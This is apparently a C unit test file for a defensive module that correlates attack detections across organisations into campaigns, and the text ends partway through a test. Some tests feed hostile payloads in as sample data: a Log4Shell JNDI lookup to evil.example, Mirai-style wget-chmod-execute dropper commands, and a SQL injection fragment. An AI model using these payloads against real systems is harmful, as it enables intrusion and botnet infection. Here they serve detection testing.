// SPDX-License-Identifier: Apache-2.0
#include "hub/campaign/campaign-internal.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/compiler.h"

#define SECOND INT64_C(1000000)
#define START  (INT64_C(1790000000) * SECOND)

static const char browser[] = "t13d1516h2_8daaf6152771_b186095e22b6";
static const char tool[] = "t13d190900_9dc949149365_97f8aa674fd9";
static const char other_tool[] = "t12d010000_aaaaaaaaaaaa_bbbbbbbbbbbb";

static struct ip_addr addr_of(const char *text)
{
	struct ip_addr addr;

	assert_int_equal(ip_addr_parse(bytes_from_str(text), &addr), 0);
	return addr;
}

/* A hundred thousand requests: nearly all with one browser, to many paths and ports, from everywhere. */
static struct campaigns *start(uint32_t groups_max)
{
	const struct siphash_key key = { 7, 8 };
	struct campaign_limits limits;
	struct campaigns *campaigns;

	campaign_limits_default(&limits);
	limits.groups_max = groups_max;
	campaigns = campaigns_new(&limits, key);
	assert_non_null(campaigns);
	for (uint32_t i = 0; i < 1000; i++) {
		struct campaign_detection seen = {
			.ja4 = bytes_from_str(browser), .port = i % 2 ? 443 : 8443, .rule = 1 + i % 3
		};
		struct minhash payload;
		char path[32], text[64];

		snprintf(path, sizeof(path), "/page/%u", i % 10);
		snprintf(text, sizeof(text), "page=%c&word=%c", 'a' + i % 26, 'a' + i % 7);
		assert_true(minhash_of(bytes_from_str(text), &payload));
		seen.path = bytes_from_str(path);
		seen.payload = &payload;
		seen.source = ip_addr_v4((const uint8_t[]){ 10, (uint8_t)(i >> 8), (uint8_t)i, 1 });
		seen.as_number = 1 + i % 20;
		campaign_traffic(campaigns, &seen, 100);
	}
	return campaigns;
}

static struct campaign_result add_of(struct campaigns *campaigns, uint32_t edge, uint32_t tenant, const char *source,
	const char *ja4, const char *path, const char *payload)
{
	struct campaign_detection detection = { .time_us = START + tenant * SECOND,
		.tenant = tenant,
		.group = tenant,
		.edge = edge,
		.source = addr_of(source),
		.ja4 = bytes_from_str(ja4),
		.path = bytes_from_str(path),
		.port = 8443 };
	struct campaign_result result;
	struct minhash signature;

	if (payload && minhash_of(bytes_from_str(payload), &signature))
		detection.payload = &signature;
	assert_int_equal(campaign_add(campaigns, &detection, &result), 0);
	return result;
}

/* Each tenant behind an edge of its own. */
static struct campaign_result add(struct campaigns *campaigns, uint32_t tenant, const char *source, const char *ja4,
	const char *path, const char *payload)
{
	return add_of(campaigns, 100 + tenant, tenant, source, ja4, path, payload);
}

static void two_groups_and_three_sources_make_a_campaign(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaign_result result;
	uint32_t id, list[4];

	result = add(campaigns, 1, "203.0.113.1", tool, "/vpn/login", NULL);
	assert_false(result.joined || result.campaign);
	id = result.id;
	result = add(campaigns, 1, "198.51.100.2", tool, "/vpn/login", NULL);
	assert_true(result.joined && result.id == id && !result.campaign);
	result = add(campaigns, 1, "192.0.2.3", tool, "/vpn/login", NULL);
	assert_true(result.joined && !result.campaign); /* three sources, one group */
	assert_int_equal(campaign_list(campaigns, list, 4), 0);
	result = add(campaigns, 2, "192.0.2.3", tool, "/vpn/login", NULL);
	assert_true(result.campaign && result.confirmed_now && !result.fingerprint);
	assert_true(campaign_list(campaigns, list, 4) == 1 && list[0] == id);
	/* A source nobody saw, at a tenant nobody hit: its first hit shows client and doing. */
	result = add(campaigns, 3, "100.64.0.9", tool, "/vpn/login", NULL);
	assert_true(result.fingerprint && result.id == id && !result.confirmed_now);
	/* The same source again is no news, nor is one that shows half of the pair. */
	assert_false(add(campaigns, 3, "100.64.0.9", tool, "/vpn/login", NULL).fingerprint);
	assert_false(add(campaigns, 3, "100.64.0.10", tool, "/page/1", NULL).fingerprint);
	assert_false(add(campaigns, 3, "100.64.0.11", browser, "/vpn/login", NULL).fingerprint);
	campaigns_free(campaigns);
}

static void one_edge_is_one_voice(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaign_result result;
	struct campaigns_stats stats;
	char source[32];

	/* Whatever organisations one edge names: no campaign, and nobody's fingerprint. */
	for (uint32_t i = 1; i <= 9; i++) {
		snprintf(source, sizeof(source), "203.0.%u.1", i);
		result = add_of(campaigns, 7, i, source, tool, "/vpn/login", NULL);
		assert_true(!result.campaign && !result.confirmed_now && !result.fingerprint);
	}
	/* Two edges of one organisation are one voice too. */
	for (uint32_t i = 1; i <= 9; i++) {
		snprintf(source, sizeof(source), "198.51.%u.1", i);
		result = add_of(campaigns, i, 20, source, other_tool, "/backup/get", NULL);
		assert_true(!result.campaign && !result.fingerprint);
	}
	campaigns_stats(campaigns, &stats);
	assert_int_equal(stats.confirmed, 0);
	/* Another edge confirms it. */
	result = add_of(campaigns, 8, 3, "203.0.77.1", tool, "/vpn/login", NULL);
	assert_true(result.campaign && result.confirmed_now && !result.fingerprint);
	campaigns_free(campaigns);
}

static void edges_of_groups_that_prove_to_be_one_count_together(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaign_result both;

	/* All three through one edge: one voice, also when groups are merged. */
	add_of(campaigns, 7, 1, "203.0.113.1", tool, "/a/login", NULL);
	add_of(campaigns, 7, 2, "203.0.113.2", other_tool, "/b/login", NULL);
	both = add_of(campaigns, 7, 3, "203.0.113.3", tool, "/b/login", NULL);
	assert_true(both.joined && !both.campaign);
	campaigns_free(campaigns);

	/* One of the halves was seen through another edge. */
	campaigns = start(100);
	add_of(campaigns, 7, 1, "203.0.113.1", tool, "/a/login", NULL);
	add_of(campaigns, 8, 2, "203.0.113.2", other_tool, "/b/login", NULL);
	both = add_of(campaigns, 7, 3, "203.0.113.3", tool, "/b/login", NULL);
	assert_true(both.joined && both.confirmed_now);
	campaigns_free(campaigns);
}

static void what_everybody_shows_ties_nobody(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaigns_stats stats;
	char source[32];

	for (uint32_t i = 0; i < 50; i++) {
		snprintf(source, sizeof(source), "10.%u.7.1", i);
		assert_false(add(campaigns, 1 + i % 5, source, browser, "/page/1", NULL).joined);
	}
	campaigns_stats(campaigns, &stats);
	assert_true(stats.groups == 50 && stats.confirmed == 0);
	campaigns_free(campaigns);
}

static void one_family_alone_ties_nothing(void **state)
{
	struct campaigns *campaigns = start(100);

	add(campaigns, 1, "203.0.113.1", browser, "/vpn/login", "x=${jndi:ldap://evil.example/a}");
	/* Path and payload are of one family. */
	assert_false(
		add(campaigns, 2, "198.51.100.1", browser, "/vpn/login", "x=${jndi:ldap://evil.example/a}").joined);
	/* Address, network and AS are as well. */
	assert_false(add(campaigns, 2, "203.0.113.1", browser, "/page/2", NULL).joined);
	/* Network and doing are two. */
	assert_true(add(campaigns, 2, "203.0.113.9", browser, "/vpn/login", NULL).joined);
	campaigns_free(campaigns);
}

static void changed_payloads_are_recognised(void **state)
{
	static const char *const payloads[] = {
		"cmd=wget http://203.0.113.5/bins/mirai.arm7 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x selfrep.router; rm "
		"-rf /tmp/.x",
		"cmd=wget http://198.51.100.77/bins/mirai.arm5 -O /tmp/.y; chmod 777 /tmp/.y; /tmp/.y selfrep.router; "
		"rm -rf /tmp/.y",
		"CMD=wget  http://192.0.2.1/bins/mirai.arm6 -O /tmp/.x; chmod 755 /tmp/.x; /tmp/.x selfrep.router; rm "
		"-rf /tmp/.x",
	};
	struct campaigns *campaigns = start(100);
	struct campaign_info info;
	struct campaign_result result = { 0 };
	char path[32], source[32];

	for (size_t i = 0; i < ARRAY_COUNT(payloads); i++) {
		snprintf(path, sizeof(path), "/setup%zu.cgi", i);
		snprintf(source, sizeof(source), "203.0.%zu.1", 100 + i);
		result = add(campaigns, 1 + (uint32_t)i, source, tool, path, payloads[i]);
		assert_int_equal(result.joined, i != 0);
	}
	assert_true(result.confirmed_now);
	assert_int_equal(campaign_find(campaigns, result.id, &info), 0);
	assert_true(info.sources == 3 && info.tenants == 3 && info.tie_count >= 2);
	result = add(campaigns, 9, "198.18.0.1", other_tool, "/setup.cgi", payloads[0]);
	assert_false(result.joined);
	campaigns_free(campaigns);
}

static void groups_that_prove_to_be_one_are_merged(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaign_result first, second, both;
	struct campaigns_stats stats;
	struct campaign_info info;

	/* Nothing in common but two halves of what comes later. */
	first = add(campaigns, 1, "203.0.113.1", tool, "/a/login", NULL);
	second = add(campaigns, 2, "203.0.113.2", other_tool, "/b/login", NULL);
	assert_int_not_equal(first.id, second.id);
	both = add(campaigns, 3, "203.0.113.3", tool, "/b/login", NULL);
	assert_true(both.joined && both.id == first.id && both.confirmed_now);
	campaigns_stats(campaigns, &stats);
	assert_true(stats.merged == 1 && stats.groups == 1);
	assert_int_equal(campaign_find(campaigns, first.id, &info), 0);
	assert_true(info.detections == 3 && info.sources == 3 && info.tenants == 3);
	assert_int_equal(campaign_find(campaigns, second.id, &info), LUYTRE_E_NOT_FOUND);
	campaigns_free(campaigns);
}

static void campaigns_explain_themselves(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaign_result result = { 0 };
	struct campaign_cell cells[8];
	char text[1024], small[16];
	uint64_t more;

	for (uint32_t i = 1; i <= 3; i++) {
		char source[32];

		snprintf(source, sizeof(source), "203.0.%u.1", i);
		result = add(campaigns, i, source, tool, "/vpn/login", NULL);
	}
	assert_int_equal(campaign_explain(campaigns, result.id, LUYTRE_LANG_EN, text, sizeof(text)), 0);
	assert_string_equal(text,
		"Campaign 1: 3 sources hit 2-4 organisations since 2026-09-21 14:13 UTC; what ties them: the client "
		"fingerprint t13d190900_9dc949149365_97f8aa674fd9 (16.6 bit); the path /vpn/login (16.6 bit).");
	assert_int_equal(campaign_explain(campaigns, result.id, LUYTRE_LANG_VI, text, sizeof(text)), 0);
	assert_string_equal(text,
		"Chiến dịch 1: 3 nguồn tấn công 2-4 tổ chức từ 2026-09-21 14:13 UTC; điểm chung: dấu vân máy khách "
		"t13d190900_9dc949149365_97f8aa674fd9 (16.6 bit); đường dẫn /vpn/login (16.6 bit).");
	assert_int_equal(campaign_explain(campaigns, result.id, LUYTRE_LANG_EN, small, sizeof(small)), LUYTRE_E_FULL);
	assert_int_equal(campaign_explain(campaigns, 99, LUYTRE_LANG_EN, text, sizeof(text)), LUYTRE_E_NOT_FOUND);

	assert_int_equal(campaign_matrix(campaigns, result.id, cells, 8, &more), 3);
	assert_true(more == 0 && cells[0].tenant == 1 && cells[2].tenant == 3 && cells[0].count == 1);
	assert_int_equal(campaign_matrix(campaigns, result.id, cells, 2, &more), 2);
	assert_int_equal(more, 1);
	campaigns_free(campaigns);
}

static void the_next_victims_look_like_the_last(void **state)
{
	static const struct campaign_profile profiles[] = {
		{ .tenant = 1, .sector = 7, .ports = { 8443 }, .tags = 3 },
		{ .tenant = 2, .sector = 7, .ports = { 8443 }, .tags = 1 },
		{ .tenant = 10, .sector = 9, .ports = { 22 } }, /* nothing in common */
		{ .tenant = 11, .sector = 9, .ports = { 22, 8443 } }, /* the service */
		{ .tenant = 12, .sector = 7, .ports = { 8443 }, .tags = 1 }, /* all */
		{ .tenant = 13, .sector = 7 }, /* the sector */
	};
	struct campaigns *campaigns = start(100);
	struct campaign_likely next[8];
	struct campaign_result result;

	add(campaigns, 1, "203.0.113.1", tool, "/vpn/login", NULL);
	add(campaigns, 1, "203.0.114.1", tool, "/vpn/login", NULL);
	result = add(campaigns, 2, "203.0.115.1", tool, "/vpn/login", NULL);
	assert_int_equal(campaign_next(campaigns, result.id, profiles, ARRAY_COUNT(profiles), next, 8), 3);
	assert_true(next[0].tenant == 12 && next[0].score > 0.99 && next[0].same_service && next[0].same_sector);
	assert_true(next[1].tenant == 11 && next[1].same_service && !next[1].same_sector);
	assert_true(next[2].tenant == 13 && !next[2].same_service && next[2].same_sector);
	assert_int_equal(campaign_next(campaigns, result.id, profiles, ARRAY_COUNT(profiles), next, 1), 1);
	assert_int_equal(next[0].tenant, 12);
	assert_int_equal(campaign_next(campaigns, 99, profiles, ARRAY_COUNT(profiles), next, 8), 0);
	campaigns_free(campaigns);
}

static void memory_is_bounded_and_campaigns_stay_longest(void **state)
{
	struct campaigns *campaigns = start(20);
	struct campaign_result result = { 0 };
	struct campaigns_stats stats;
	struct campaign_info info;
	char source[32], path[32];

	for (uint32_t i = 1; i <= 3; i++) {
		snprintf(source, sizeof(source), "203.0.%u.1", i);
		result = add(campaigns, i, source, tool, "/vpn/login", NULL);
	}
	for (uint32_t i = 0; i < 3000; i++) {
		snprintf(source, sizeof(source), "11.%u.%u.1", i / 200, i % 200);
		snprintf(path, sizeof(path), "/x%u", i);
		add(campaigns, 50 + i % 9, source, browser, path, NULL);
	}
	campaigns_stats(campaigns, &stats);
	assert_true(stats.groups == 20 && stats.evicted == 3001 - 20);
	assert_int_equal(campaign_find(campaigns, result.id, &info), 0);
	assert_true(add(campaigns, 4, "203.0.99.1", tool, "/vpn/login", NULL).fingerprint);
	campaigns_tick(campaigns, START + INT64_C(8) * 86400 * SECOND);
	campaigns_stats(campaigns, &stats);
	assert_true(stats.groups == 1 && stats.confirmed == 1);
	campaigns_tick(campaigns, START + INT64_C(29) * 86400 * SECOND);
	campaigns_stats(campaigns, &stats);
	assert_true(stats.groups == 0 && stats.confirmed == 0);
	campaigns_free(campaigns);
	campaigns_free(NULL);
}

/* A group that gives way leaves nothing behind for the next one: all lists of the first were full. */
static void a_new_group_knows_nothing_of_the_old(void **state)
{
	struct campaigns *campaigns = start(1), *fresh = start(1);
	struct campaign_result result;
	uint8_t *left, *right;
	size_t left_size, right_size;
	char source[32];

	for (uint32_t i = 0; i < 400; i++) {
		snprintf(source, sizeof(source), "203.%u.%u.1", i / 200, i % 200);
		result = add_of(campaigns, 1 + i % 80, 1 + i, source, tool, "/vpn/login", "id=1 union select password");
	}
	assert_true(result.campaign);
	assert_int_equal(add(campaigns, 7, "198.51.100.1", browser, "/other", NULL).id, result.id + 1);
	assert_false(add(campaigns, 7, "198.51.100.1", browser, "/other", NULL).campaign);
	add(fresh, 7, "198.51.100.1", browser, "/other", NULL);
	add(fresh, 7, "198.51.100.1", browser, "/other", NULL);
	assert_int_equal(campaigns_save(campaigns, &left, &left_size), 0);
	assert_int_equal(campaigns_save(fresh, &right, &right_size), 0);
	assert_int_equal(left_size, right_size);
	/* The group, but for its number, stands last before the checksum. */
	assert_memory_equal(left + left_size - sizeof(uint64_t) - CAMPAIGN_GROUP_SAVED + sizeof(uint32_t),
		right + right_size - sizeof(uint64_t) - CAMPAIGN_GROUP_SAVED + sizeof(uint32_t),
		CAMPAIGN_GROUP_SAVED - sizeof(uint32_t));
	free(left);
	free(right);
	campaigns_free(campaigns);
	campaigns_free(fresh);
}

/* Whoever was heard of again stays, also after a restart. */
static void who_was_quiet_for_longest_goes(void **state)
{
	struct campaigns *campaigns = start(4), *loaded = NULL;
	struct campaign_limits limits;
	uint32_t ids[7];
	struct campaign_info info;
	uint8_t *text;
	size_t size;
	char source[32], path[32];

	for (uint32_t i = 0; i < 4; i++) {
		snprintf(source, sizeof(source), "203.%u.113.1", i);
		snprintf(path, sizeof(path), "/x%u", i);
		ids[i] = add(campaigns, 10 + i, source, browser, path, NULL).id;
	}
	assert_int_equal(add(campaigns, 20, "203.0.113.1", browser, "/x0", NULL).id, ids[0]);
	ids[4] = add(campaigns, 21, "203.4.113.1", browser, "/x4", NULL).id;
	assert_int_equal(campaign_find(campaigns, ids[1], &info), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaigns_save(campaigns, &text, &size), 0);
	campaign_limits_default(&limits);
	limits.groups_max = 4;
	assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &loaded), 0);
	free(text);
	campaigns_free(campaigns);
	ids[5] = add(loaded, 22, "203.5.113.1", browser, "/x5", NULL).id;
	assert_int_equal(campaign_find(loaded, ids[2], &info), LUYTRE_E_NOT_FOUND);
	ids[6] = add(loaded, 23, "203.6.113.1", browser, "/x6", NULL).id;
	assert_int_equal(campaign_find(loaded, ids[3], &info), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaign_find(loaded, ids[0], &info), 0);
	for (int i = 4; i < 7; i++)
		assert_int_equal(campaign_find(loaded, ids[i], &info), 0);
	campaigns_free(loaded);
}

static void bad_detections_are_refused(void **state)
{
	struct campaigns *campaigns = start(20);
	struct campaign_detection detection = { .tenant = 1 };
	struct campaign_result result;

	assert_int_equal(campaign_add(campaigns, &detection, &result), LUYTRE_E_INVALID);
	detection.source = addr_of("192.0.2.1");
	detection.tenant = 0;
	assert_int_equal(campaign_add(campaigns, &detection, &result), LUYTRE_E_INVALID);
	detection.tenant = 1;
	assert_int_equal(campaign_add(campaigns, &detection, &result), 0);
	campaigns_free(campaigns);
}

static void the_state_lives_over_a_restart(void **state)
{
	struct campaigns *campaigns = start(100), *loaded = NULL;
	struct campaign_limits limits;
	struct campaign_info before, after;
	struct campaign_result result;
	uint8_t *text;
	size_t size;

	add(campaigns, 1, "203.0.113.1", tool, "/vpn/login", NULL);
	add(campaigns, 1, "198.51.100.2", tool, "/vpn/login", NULL);
	result = add(campaigns, 2, "192.0.2.3", tool, "/vpn/login", NULL);
	assert_true(result.campaign);
	assert_int_equal(campaign_find(campaigns, result.id, &before), 0);
	assert_int_equal(before.trend[CAMPAIGN_TREND - 1], 3);
	assert_int_equal(campaigns_save(campaigns, &text, &size), 0);
	campaign_limits_default(&limits);
	limits.groups_max = 100;
	assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &loaded), 0);
	assert_true(campaigns_instance(loaded) == campaigns_instance(campaigns));
	assert_int_equal(campaign_find(loaded, result.id, &after), 0);
	assert_memory_equal(&before, &after, sizeof(before));
	assert_true(add(loaded, 3, "100.64.0.9", tool, "/vpn/login", NULL).fingerprint);
	assert_int_equal(add(loaded, 4, "100.64.0.10", other_tool, "/elsewhere", NULL).id, result.id + 1);
	campaigns_free(loaded);
	/* Every byte counts. */
	for (size_t i = 0; i < size; i += size / 97 + 1) {
		text[i] ^= 1;
		assert_int_not_equal(campaigns_load(&limits, bytes_of(text, size), &loaded), 0);
		text[i] ^= 1;
	}
	assert_int_not_equal(campaigns_load(&limits, bytes_of(text, size - 1), &loaded), 0);
	limits.groups_max = 0;
	assert_int_not_equal(campaigns_load(&limits, bytes_of(text, size), &loaded), 0);
	free(text);
	campaigns_free(campaigns);
}

static void what_may_become_one_is_listed_too(void **state)
{
	struct campaigns *campaigns = start(100);
	uint32_t ids[4], tenants[CAMPAIGN_TENANTS_MAX], first;

	first = add(campaigns, 1, "203.0.113.1", tool, "/vpn/login", NULL).id;
	add(campaigns, 1, "203.0.113.77", other_tool, "/elsewhere", NULL);
	assert_int_equal(campaign_page(campaigns, 0, ids, 4), 0);
	add(campaigns, 2, "203.0.113.1", tool, "/vpn/login", NULL);
	assert_true(campaign_page(campaigns, 0, ids, 4) == 1 && ids[0] == first);
	assert_int_equal(campaign_page(campaigns, first, ids, 4), 0);
	assert_int_equal(campaign_list(campaigns, ids, 4), 0);
	assert_int_equal(campaign_tenants(campaigns, first, tenants), 2);
	campaigns_free(campaigns);
}

/* Two campaigns with nothing in common: 'tool' at /vpn/login, 'other_tool' at /owa/auth; three sources and two tenants each. */
static void make_two(struct campaigns *campaigns, uint32_t ids[2])
{
	static const struct {
		uint32_t tenant;
		const char *source;
	} seen[2][4] = { { { 1, "203.0.113.1" }, { 1, "198.51.100.2" }, { 2, "192.0.2.3" }, { 2, "203.0.113.1" } },
		{ { 3, "100.64.1.1" }, { 3, "100.65.1.2" }, { 4, "100.66.1.3" }, { 4, "100.64.1.1" } } };

	for (size_t i = 0; i < 4; i++) {
		ids[0] = add(campaigns, seen[0][i].tenant, seen[0][i].source, tool, "/vpn/login", NULL).id;
		ids[1] = add(campaigns, seen[1][i].tenant, seen[1][i].source, other_tool, "/owa/auth", NULL).id;
	}
	assert_int_not_equal(ids[0], ids[1]);
}

static struct campaign_info info_of(const struct campaigns *campaigns, uint32_t id)
{
	struct campaign_info info;

	assert_int_equal(campaign_find(campaigns, id, &info), 0);
	return info;
}

static bool same_info(const struct campaign_info *left, const struct campaign_info *right)
{
	return left->id == right->id && left->first_us == right->first_us && left->last_us == right->last_us &&
	       left->detections == right->detections && left->sources == right->sources &&
	       left->tenants == right->tenants && left->groups == right->groups && left->campaign == right->campaign &&
	       left->tie_count == right->tie_count && memcmp(left->trend, right->trend, sizeof(left->trend)) == 0;
}

static void people_merge_campaigns_and_take_it_back(void **state)
{
	struct campaigns *campaigns = start(100);
	struct campaign_info before[2], both;
	struct campaign_cell cells[16];
	struct campaign_words words;
	uint32_t ids[2], kept = 0, gone = 0, list[4];

	make_two(campaigns, ids);
	before[0] = info_of(campaigns, ids[0]);
	before[1] = info_of(campaigns, ids[1]);
	assert_int_equal(campaign_merge(campaigns, ids[1], 999, &kept, &gone), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaign_merge(campaigns, ids[1], ids[1], &kept, &gone), LUYTRE_E_INVALID);
	assert_int_equal(campaign_merge(campaigns, ids[1], ids[0], &kept, &gone), 0);
	assert_int_equal(kept, ids[0]); /* the older number */
	assert_int_equal(gone, ids[1]);
	assert_int_equal(campaign_merge(campaigns, ids[0], ids[1], &kept, &gone), LUYTRE_E_INVALID);
	both = info_of(campaigns, ids[1]); /* leads to the other */
	assert_int_equal(both.id, ids[0]);
	assert_int_equal(both.sources, 6);
	assert_int_equal(both.tenants, 4);
	assert_int_equal(both.detections, 8);
	assert_int_equal(campaign_matrix(campaigns, ids[0], cells, 16, NULL), 8);
	assert_int_equal(campaign_list(campaigns, list, 4), 1);
	assert_int_equal(campaign_page(campaigns, 0, list, 4), 1);
	campaign_words(campaigns, ids[0], &words);
	assert_true(words.merged_count == 1 && words.merged[0] == ids[1] && words.part_count == 0);
	/* What comes now counts there, and is with its own again when the word is taken back. */
	assert_int_equal(add(campaigns, 5, "100.67.1.4", other_tool, "/owa/auth", NULL).id, ids[0]);
	assert_int_equal(campaign_take_back(campaigns, ids[1], ids[0]), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaign_take_back(campaigns, ids[0], ids[1]), 0);
	both = info_of(campaigns, ids[0]);
	assert_true(same_info(&both, &before[0]));
	both = info_of(campaigns, ids[1]);
	assert_int_equal(both.id, ids[1]);
	assert_int_equal(both.detections, before[1].detections + 1);
	assert_int_equal(campaign_list(campaigns, list, 4), 2);
	campaigns_free(campaigns);
}

static void people_split_campaigns_and_take_it_back(void **state)
{
	struct campaigns *campaigns = start(100);
	struct ip_addr one = addr_of("203.0.113.1"), all[3] = { one, addr_of("198.51.100.2"), addr_of("192.0.2.3") };
	struct ip_addr foreign = addr_of("100.64.1.1");
	struct campaign_info before, part, rest;
	struct campaign_words words;
	uint32_t ids[2], id = 0, gone = 0, list[4];
	char text[512];

	make_two(campaigns, ids);
	before = info_of(campaigns, ids[0]);
	assert_int_equal(campaign_split(campaigns, ids[0], all, 0, &id), LUYTRE_E_INVALID);
	assert_int_equal(campaign_split(campaigns, ids[0], all, 3, &id), LUYTRE_E_INVALID); /* nothing would be left */
	assert_int_equal(campaign_split(campaigns, ids[0], &foreign, 1, &id), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaign_split(campaigns, 999, &one, 1, &id), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaign_split(campaigns, ids[0], &one, 1, &id), 0);
	assert_true(id > ids[0] && id > ids[1]);
	part = info_of(campaigns, id);
	rest = info_of(campaigns, ids[0]);
	assert_true(part.sources == 1 && part.tenants == 2 && part.detections == 2 && part.campaign);
	assert_true(rest.sources == 2 && rest.tenants == 2 && rest.detections == 2);
	for (size_t i = 0; i < rest.tie_count; i++)
		assert_string_not_equal(rest.ties[i].label, "203.0.113.1");
	assert_int_equal(campaign_explain(campaigns, id, LUYTRE_LANG_EN, text, sizeof(text)), 0);
	assert_int_equal(campaign_list(campaigns, list, 4), 3);
	campaign_words(campaigns, id, &words);
	assert_int_equal(words.split_from, ids[0]);
	/* The source goes on there, others stay. */
	assert_int_equal(add(campaigns, 5, "203.0.113.1", tool, "/vpn/login", NULL).id, id);
	assert_int_equal(add(campaigns, 5, "198.51.100.2", tool, "/vpn/login", NULL).id, ids[0]);
	/* Back into what it came from would go in circles; to take it back is meant. */
	assert_int_equal(campaign_merge(campaigns, id, ids[0], &id, &gone), LUYTRE_E_CONFLICT);
	assert_int_equal(info_of(campaigns, ids[0]).detections, 3);
	campaign_words(campaigns, ids[0], &words);
	assert_int_equal(words.part_count, 1);
	assert_int_equal(campaign_take_back(campaigns, ids[0], words.parts[0]), 0);
	rest = info_of(campaigns, ids[0]);
	assert_int_equal(rest.detections, before.detections + 2);
	assert_int_equal(rest.sources, before.sources);
	assert_int_equal(campaign_find(campaigns, words.parts[0], &part), LUYTRE_E_NOT_FOUND);
	campaigns_free(campaigns);
}

/* Words are kept over a restart, follow what the finder joins underneath, and go with what they are about. */
static void words_last_as_long_as_their_campaigns(void **state)
{
	struct campaigns *campaigns = start(100), *again;
	struct ip_addr one = addr_of("203.0.113.1");
	struct campaign_limits limits;
	struct campaign_info before, after;
	uint32_t ids[2], kept = 0, gone = 0, part = 0;
	uint8_t *text = NULL;
	size_t size = 0;

	make_two(campaigns, ids);
	assert_int_equal(campaign_split(campaigns, ids[0], &one, 1, &part), 0);
	assert_int_equal(campaign_merge(campaigns, part, ids[1], &kept, &gone), 0);
	assert_int_equal(kept, ids[1]);
	before = info_of(campaigns, part);
	assert_int_equal(before.id, ids[1]);
	assert_int_equal(before.sources, 4);
	assert_int_equal(campaigns_save(campaigns, &text, &size), 0);
	campaign_limits_default(&limits);
	limits.groups_max = 100;
	assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &again), 0);
	after = info_of(again, part);
	assert_true(same_info(&before, &after));
	campaigns_free(again);
	for (size_t i = 0; i < 100; i++) { /* of what was cut or altered nothing is taken */
		text[size - 9 - i] ^= 0x40;
		assert_int_equal(campaigns_load(&limits, bytes_of(text, size), &again), LUYTRE_E_CORRUPT);
		text[size - 9 - i] ^= 0x40;
	}
	free(text);
	campaigns_tick(campaigns, START + 400 * 86400 * SECOND);
	assert_int_equal(campaign_find(campaigns, part, &after), LUYTRE_E_NOT_FOUND);
	assert_int_equal(campaigns->words.merge_count + campaigns->words.part_count, 0);
	campaigns_free(campaigns);
}

static void words_follow_what_the_finder_joins(void **state)
{
	struct campaigns *campaigns = start(100);
	uint32_t first = add(campaigns, 1, "203.0.113.1", tool, "/a/login", NULL).id;
	uint32_t second = add(campaigns, 2, "203.0.113.2", other_tool, "/b/login", NULL).id;
	uint32_t third = add(campaigns, 4, "100.70.0.1", "t10d", "/c/login", NULL).id, kept = 0, gone = 0;

	assert_int_equal(campaign_merge(campaigns, third, second, &kept, &gone), 0);
	assert_int_equal(kept, second);
	/* The first and the second are one underneath: the third leads there. */
	assert_int_equal(add(campaigns, 3, "203.0.113.3", tool, "/b/login", NULL).id, first);
	assert_int_equal(info_of(campaigns, third).id, first);
	assert_int_equal(info_of(campaigns, first).detections, 4);
	assert_int_equal(campaign_take_back(campaigns, first, third), 0);
	assert_int_equal(info_of(campaigns, first).detections, 3);
	/* Said of two that then prove to be one, it is no word any more. */
	campaigns_free(campaigns);
	campaigns = start(100);
	first = add(campaigns, 1, "203.0.113.1", tool, "/a/login", NULL).id;
	second = add(campaigns, 2, "203.0.113.2", other_tool, "/b/login", NULL).id;
	assert_int_equal(campaign_merge(campaigns, first, second, &kept, &gone), 0);
	assert_int_equal(add(campaigns, 3, "203.0.113.3", tool, "/b/login", NULL).id, first);
	assert_int_equal(campaigns->words.merge_count, 0);
	campaigns_free(campaigns);
}

static void words_are_bounded(void **state)
{
	struct campaigns *campaigns = start(2000);
	uint32_t ids[2], kept = 0, gone = 0, first = 0;
	struct campaign_words shown;
	struct ip_addr source;
	char text[32];

	make_two(campaigns, ids);
	for (uint32_t i = 0; i < CAMPAIGN_MERGES_MAX + 1; i++) {
		snprintf(text, sizeof(text), "/only/%u", i);
		kept = add(campaigns, 900 + i, "100.70.0.1", text, text, NULL).id;
		assert_int_equal(first ? campaign_merge(campaigns, first, kept, &kept, &gone) : 0, 0);
		first = first ? first : kept;
	}
	assert_int_equal(campaign_merge(campaigns, first, ids[0], &kept, &gone), LUYTRE_E_FULL);
	/* More than are shown: each can be taken back. */
	campaign_words(campaigns, first, &shown);
	assert_int_equal(shown.merged_count, CAMPAIGN_WORDS_SHOWN);
	assert_true(campaign_has_word(campaigns, first, gone) && !campaign_has_word(campaigns, ids[0], gone));
	assert_int_equal(campaign_take_back(campaigns, first, gone), 0);
	assert_false(campaign_has_word(campaigns, first, gone));
	for (uint32_t i = 0; i <= CAMPAIGN_PARTS_MAX; i++) {
		snprintf(text, sizeof(text), "100.80.%u.1", i);
		source = addr_of(text);
		add(campaigns, 1 + i % 2 * 2, text, i % 2 ? other_tool : tool, i % 2 ? "/owa/auth" : "/vpn/login",
			NULL);
		assert_int_equal(campaign_split(campaigns, ids[i % 2], &source, 1, &kept),
			i < CAMPAIGN_PARTS_MAX ? 0 : LUYTRE_E_FULL);
	}
	assert_int_equal(campaigns->words.part_count, CAMPAIGN_PARTS_MAX);
	campaigns_free(campaigns);
}

/* A file from before there were words: its head ends with the next id, and no words follow the groups. */
static void a_state_without_words_is_read(void **state)
{
	static const struct siphash_key sum_key = { 0x6c75797472654331, 0x63616d706169676e };
	struct campaigns *campaigns = start(100), *again = NULL;
	const size_t next_at = 8 + 3 * sizeof(uint64_t) + sizeof(struct siphash_key) + sizeof(struct campaigns_stats);
	const size_t words_at = next_at + sizeof(uint64_t), words_size = 2 * sizeof(uint64_t);
	uint64_t sum, words[2], next;
	struct campaign_limits limits;
	struct campaign_info before, after;
	uint32_t ids[2];
	uint8_t *text;
